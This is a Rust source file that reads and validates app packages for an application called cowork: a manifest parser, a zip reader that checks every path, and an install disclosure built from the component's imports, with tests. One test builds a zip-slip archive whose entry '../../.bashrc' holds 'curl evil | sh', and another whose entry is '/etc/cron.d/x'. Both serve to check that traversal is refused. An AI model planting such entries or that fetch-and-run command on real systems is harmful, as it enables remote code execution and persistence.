//! An app package: its manifest (`cowork-app.toml`), its component (or none,
//! for an app without code), read from a folder or a zip with every path
//! checked, and the disclosure the install dialog shows: what the component
//! can actually call, read from its imports, next to what the manifest
//! claims. Pure: no thread, no database.

use std::io::Read;
use std::path::{Component as PathPart, Path};

use serde::{Deserialize, Serialize};

use super::nocode::Query;
use super::runtime::{AI, CONTEXT, Capability, DATA, HTTP, USER};

pub const MANIFEST_FILE: &str = "cowork-app.toml";
/// The largest component accepted (a JavaScript app is ~12 MB).
pub const COMPONENT_LIMIT: u64 = 64 << 20;
const MANIFEST_LIMIT: u64 = 64 << 10;
/// Entries a zip may hold: an app is a manifest and a component, with some room for notes and sources.
const ZIP_ENTRIES: usize = 256;

/// What the manifest says about the network.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Network {
    #[default]
    Offline,
    Online,
}

#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Manifest {
    pub name: String,
    /// Lowercase letters, digits and '-'; by default made from the name.
    #[serde(default)]
    pub id: Option<String>,
    pub description: String,
    pub category: String,
    pub version: String,
    /// The component's file, next to the manifest (None: an app without code).
    #[serde(default)]
    pub component: Option<String>,
    /// What the app says it does with the data, in its own words.
    pub data_use: String,
    #[serde(default)]
    pub network: Network,
    /// An app without code: the lane queries its view is made from.
    #[serde(default)]
    pub query: Vec<Query>,
    /// An app without code: the view (JSON) with `${name}` where a query's result goes.
    #[serde(default)]
    pub view: Option<String>,
}

/// Why a package cannot be installed.
#[derive(Debug, thiserror::Error, PartialEq, Eq)]
pub enum PackageError {
    #[error("{0}")]
    Read(String),
    #[error("the manifest {MANIFEST_FILE} is not valid: {0}")]
    Manifest(String),
    #[error("the archive holds a path that leaves its folder ({0}); nothing was installed")]
    Traversal(String),
    #[error("{0} is larger than cowork accepts ({1} MiB at most)")]
    TooLarge(String, u64),
    #[error("the component is not a WebAssembly component: {0}")]
    NotAComponent(String),
}

impl Manifest {
    pub fn parse(text: &str) -> Result<Manifest, PackageError> {
        let manifest: Manifest = toml::from_str(text).map_err(|err| PackageError::Manifest(err.message().to_owned()))?;
        manifest.check()?;
        Ok(manifest)
    }

    fn check(&self) -> Result<(), PackageError> {
        let bad = |why: String| Err(PackageError::Manifest(why));
        for (field, value, most) in [("name", &self.name, 60), ("description", &self.description, 500), ("category", &self.category, 40), ("version", &self.version, 40), ("data_use", &self.data_use, 1000)] {
            if value.trim().is_empty() {
                return bad(format!("{field} is empty"));
            }
            if value.chars().count() > most {
                return bad(format!("{field} is longer than {most} characters"));
            }
        }
        let id = self.app_id();
        if id.is_empty() || id.len() > 60 || !id.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-') {
            return bad(format!("the id {id:?} must be 1 to 60 lowercase letters, digits or '-'"));
        }
        match (&self.component, &self.view) {
            (Some(file), None) => {
                if !plain_file_name(file) {
                    return bad(format!("component must name a file next to the manifest, not {file:?}"));
                }
                if !self.query.is_empty() {
                    return bad("query is for apps without code (no component)".into());
                }
            }
            (None, Some(view)) => super::nocode::check(&self.query, view).map_err(PackageError::Manifest)?,
            (Some(_), Some(_)) => return bad("an app has either a component or a view, not both".into()),
            (None, None) => return bad("an app needs a component, or a view for an app without code".into()),
        }
        Ok(())
    }

    /// The id the app is installed under.
    pub fn app_id(&self) -> String {
        match &self.id {
            Some(id) => id.clone(),
            None => {
                let mut id = String::new();
                for c in self.name.trim().chars().flat_map(char::to_lowercase) {
                    if c.is_ascii_alphanumeric() {
                        id.push(c);
                    } else if !id.ends_with('-') && !id.is_empty() {
                        id.push('-');
                    }
                }
                id.trim_end_matches('-').chars().take(60).collect()
            }
        }
    }
}

fn plain_file_name(name: &str) -> bool {
    let path = Path::new(name);
    let mut parts = path.components();
    matches!((parts.next(), parts.next()), (Some(PathPart::Normal(_)), None))
}

/// A package as read from a folder or a zip.
#[derive(Clone, Debug)]
pub struct Package {
    pub manifest: Manifest,
    pub manifest_text: String,
    pub component: Option<Vec<u8>>,
}

impl Package {
    /// Reads a folder holding `cowork-app.toml`, or a zip holding it at its
    /// top level or in one folder. A zip entry whose path would leave the
    /// package (`..`, an absolute path) refuses the whole package.
    pub fn read(path: &Path) -> Result<Package, PackageError> {
        if path.is_dir() {
            return Self::from_folder(path);
        }
        let file = std::fs::File::open(path).map_err(|err| PackageError::Read(format!("cannot open {}: {err}", path.display())))?;
        let mut archive = zip::ZipArchive::new(file).map_err(|err| PackageError::Read(format!("{} is neither a folder nor a zip: {err}", path.display())))?;
        if archive.len() > ZIP_ENTRIES {
            return Err(PackageError::Read(format!("the archive holds {} files; an app has at most {ZIP_ENTRIES}", archive.len())));
        }
        let mut names = Vec::new();
        for index in 0..archive.len() {
            let entry = archive.by_index_raw(index).map_err(|err| PackageError::Read(format!("the archive is damaged: {err}")))?;
            let name = entry.name().to_owned();
            if entry.enclosed_name().is_none() || name.contains('\\') {
                return Err(PackageError::Traversal(name));
            }
            names.push(name);
        }
        let manifest_name = names
            .iter()
            .filter(|n| n.as_str() == MANIFEST_FILE || (n.ends_with(&format!("/{MANIFEST_FILE}")) && n.matches('/').count() == 1))
            .min_by_key(|n| n.len())
            .cloned()
            .ok_or_else(|| PackageError::Read(format!("the archive has no {MANIFEST_FILE} at its top level")))?;
        let folder = manifest_name.strip_suffix(MANIFEST_FILE).unwrap_or_default().to_owned();
        let mut read = |name: &str, limit: u64| -> Result<Vec<u8>, PackageError> {
            let mut entry = archive.by_name(name).map_err(|_| PackageError::Read(format!("the archive has no {name}")))?;
            if entry.size() > limit {
                return Err(PackageError::TooLarge(name.to_owned(), limit >> 20));
            }
            let mut bytes = Vec::new();
            entry.by_ref().take(limit + 1).read_to_end(&mut bytes).map_err(|err| PackageError::Read(format!("cannot read {name} from the archive: {err}")))?;
            if bytes.len() as u64 > limit {
                return Err(PackageError::TooLarge(name.to_owned(), limit >> 20));
            }
            Ok(bytes)
        };
        let manifest_text = String::from_utf8(read(&manifest_name, MANIFEST_LIMIT)?).map_err(|_| PackageError::Manifest("it is not UTF-8".into()))?;
        let manifest = Manifest::parse(&manifest_text)?;
        let component = match &manifest.component {
            Some(file) => Some(read(&format!("{folder}{file}"), COMPONENT_LIMIT)?),
            None => None,
        };
        Ok(Package { manifest, manifest_text, component })
    }

    fn from_folder(dir: &Path) -> Result<Package, PackageError> {
        let read = |name: &str, limit: u64| -> Result<Vec<u8>, PackageError> {
            let path = dir.join(name);
            let meta = std::fs::symlink_metadata(&path).map_err(|err| PackageError::Read(format!("cannot read {}: {err}", path.display())))?;
            if !meta.is_file() {
                return Err(PackageError::Read(format!("{} is not a plain file", path.display())));
            }
            if meta.len() > limit {
                return Err(PackageError::TooLarge(name.to_owned(), limit >> 20));
            }
            std::fs::read(&path).map_err(|err| PackageError::Read(format!("cannot read {}: {err}", path.display())))
        };
        let manifest_text = String::from_utf8(read(MANIFEST_FILE, MANIFEST_LIMIT)?).map_err(|_| PackageError::Manifest("it is not UTF-8".into()))?;
        let manifest = Manifest::parse(&manifest_text)?;
        let component = match &manifest.component {
            Some(file) => Some(read(file, COMPONENT_LIMIT)?),
            None => None,
        };
        Ok(Package { manifest, manifest_text, component })
    }

    /// What the install dialog shows.
    pub fn disclose(&self) -> Result<Disclosure, PackageError> {
        let imports = match &self.component {
            Some(wasm) => component_imports(wasm)?,
            None => vec![CONTEXT.to_owned(), DATA.to_owned()],
        };
        Ok(Disclosure::new(&self.manifest, imports))
    }
}

/// The interfaces a component imports, read from its binary without
/// compiling it (the top level only: nested modules are its own inside).
pub fn component_imports(wasm: &[u8]) -> Result<Vec<String>, PackageError> {
    let mut imports = Vec::new();
    let mut depth = 0usize;
    let mut saw_component = false;
    for payload in wasmparser::Parser::new(0).parse_all(wasm) {
        let payload = payload.map_err(|err| PackageError::NotAComponent(err.to_string()))?;
        match payload {
            wasmparser::Payload::Version { encoding, .. } => {
                if depth == 0 {
                    if encoding != wasmparser::Encoding::Component {
                        return Err(PackageError::NotAComponent("it is a core module; build it as a component (see the SDK guide)".into()));
                    }
                    saw_component = true;
                }
                depth += 1;
            }
            wasmparser::Payload::End(_) => depth = depth.saturating_sub(1),
            wasmparser::Payload::ComponentImportSection(reader) if depth == 1 => {
                for import in reader {
                    let import = import.map_err(|err| PackageError::NotAComponent(err.to_string()))?;
                    imports.push(import.name.name.to_owned());
                }
            }
            _ => {}
        }
    }
    if !saw_component {
        return Err(PackageError::NotAComponent("it is empty".into()));
    }
    imports.sort();
    imports.dedup();
    Ok(imports)
}

/// What an app can call, in plain words, next to what it claims.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Disclosure {
    pub imports: Vec<String>,
    /// Plain words for each thing the app can read or do (the read lane it imports, then the capabilities).
    pub reads: Vec<String>,
    /// The optional capabilities its code imports: each needs the user's grant.
    pub capabilities: Vec<Capability>,
    /// What does not add up: imports cowork does not offer, http with an "offline" claim.
    pub flags: Vec<String>,
    /// The manifest's own words.
    pub claim: String,
    pub network_claim: Network,
}

impl Disclosure {
    pub fn new(manifest: &Manifest, imports: Vec<String>) -> Disclosure {
        let mut reads = Vec::new();
        let mut capabilities = Vec::new();
        let mut flags = Vec::new();
        let mut unoffered = Vec::new();
        for import in &imports {
            match import.as_str() {
                CONTEXT => reads.push("your current window and your activity (apps, window titles, times)".to_owned()),
                USER => reads.push("your profile and preferences".to_owned()),
                DATA => reads.push("search over what cowork remembers, and its own storage".to_owned()),
                AI => capabilities.push(Capability::Ai),
                HTTP => capabilities.push(Capability::Http),
                other => unoffered.push(other),
            }
        }
        if !unoffered.is_empty() {
            // A toolchain's WASI imports (files, clocks, stdio) come in dozens; one line names them.
            let wasi = if unoffered.iter().any(|i| i.starts_with("wasi:")) { " (cowork offers no WASI: build without it, e.g. componentize-py --stub-wasi)" } else { "" };
            flags.push(format!("it imports {}, which cowork does not offer: it cannot run{wasi}", unoffered.join(", ")));
        }
        if capabilities.contains(&Capability::Http) && manifest.network == Network::Offline {
            flags.push("its code can fetch web pages, but its manifest says it works offline".to_owned());
        }
        if !capabilities.contains(&Capability::Http) && manifest.network == Network::Online {
            flags.push("its manifest says it goes online, but its code cannot: it will not reach the network".to_owned());
        }
        Disclosure { imports, reads, capabilities, flags, claim: manifest.data_use.clone(), network_claim: manifest.network }
    }

    /// Whether `other` (an update) can call something this one could not.
    pub fn widened_by(&self, other: &Disclosure) -> bool {
        other.imports.iter().any(|i| !self.imports.contains(i))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Write;

    const MANIFEST: &str = r#"
name = "Focus today"
description = "Time per app today"
category = "productivity"
version = "0.1.0"
component = "app.wasm"
data_use = "Reads today's activity. Nothing leaves the machine."
"#;

    #[test]
    fn a_manifest_is_checked_and_gets_an_id_from_its_name() {
        let manifest = Manifest::parse(MANIFEST).unwrap();
        assert_eq!(manifest.app_id(), "focus-today");
        assert_eq!(manifest.network, Network::Offline);
        let err = Manifest::parse(&MANIFEST.replace("app.wasm", "../app.wasm")).unwrap_err();
        assert!(err.to_string().contains("next to the manifest"), "{err}");
        let err = Manifest::parse(&MANIFEST.replace("version = \"0.1.0\"\n", "")).unwrap_err();
        assert!(err.to_string().contains("version"), "{err}");
        let err = Manifest::parse(&format!("{MANIFEST}\nid = \"Focus/Today\"")).unwrap_err();
        assert!(err.to_string().contains("lowercase"), "{err}");
        let err = Manifest::parse(&format!("{MANIFEST}\nscripts = []")).unwrap_err();
        assert!(err.to_string().contains("unknown field"), "{err}");
    }

    #[test]
    fn the_disclosure_comes_from_the_imports_and_flags_http_claimed_offline() {
        let manifest = Manifest::parse(MANIFEST).unwrap();
        let disclosure = Disclosure::new(&manifest, vec![CONTEXT.into(), DATA.into(), HTTP.into()]);
        assert_eq!(disclosure.capabilities, [Capability::Http]);
        assert_eq!(disclosure.reads.len(), 2);
        assert_eq!(disclosure.flags, ["its code can fetch web pages, but its manifest says it works offline"]);
        let quiet = Disclosure::new(&manifest, vec![CONTEXT.into()]);
        assert!(quiet.flags.is_empty() && quiet.capabilities.is_empty());
        assert!(quiet.widened_by(&disclosure) && !disclosure.widened_by(&quiet));
        let odd = Disclosure::new(&manifest, vec!["wasi:filesystem/types@0.2.0".into()]);
        assert!(odd.flags[0].contains("wasi:filesystem"), "{:?}", odd.flags);
    }

    fn zip_of(path: &Path, entries: &[(&str, &[u8])]) {
        let mut zip = zip::ZipWriter::new(std::fs::File::create(path).unwrap());
        for (name, bytes) in entries {
            zip.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap();
    }

    #[test]
    fn a_zip_with_a_path_that_leaves_the_package_is_refused_whole() {
        let dir = tempfile::tempdir().unwrap();
        let evil = dir.path().join("evil.zip");
        zip_of(&evil, &[(MANIFEST_FILE, MANIFEST.as_bytes()), ("app.wasm", b"\0asm"), ("../../.bashrc", b"curl evil | sh")]);
        assert_eq!(Package::read(&evil).unwrap_err(), PackageError::Traversal("../../.bashrc".into()));
        let absolute = dir.path().join("absolute.zip");
        zip_of(&absolute, &[(MANIFEST_FILE, MANIFEST.as_bytes()), ("/etc/cron.d/x", b"x")]);
        assert!(matches!(Package::read(&absolute), Err(PackageError::Traversal(_))));
        assert!(!dir.path().parent().unwrap().join(".bashrc").exists());
        // One folder inside the zip is fine.
        let nested = dir.path().join("nested.zip");
        zip_of(&nested, &[("focus/cowork-app.toml", MANIFEST.as_bytes()), ("focus/app.wasm", b"\0asm\x0d\0\x01\0")]);
        let package = Package::read(&nested).unwrap();
        assert_eq!(package.component.as_deref(), Some(&b"\0asm\x0d\0\x01\0"[..]));
        assert_eq!(package.disclose().unwrap().imports, Vec::<String>::new());
        let core = dir.path().join("core.zip");
        zip_of(&core, &[(MANIFEST_FILE, MANIFEST.as_bytes()), ("app.wasm", b"\0asm\x01\0\0\0")]);
        assert!(matches!(Package::read(&core).unwrap().disclose(), Err(PackageError::NotAComponent(_))));
    }
}
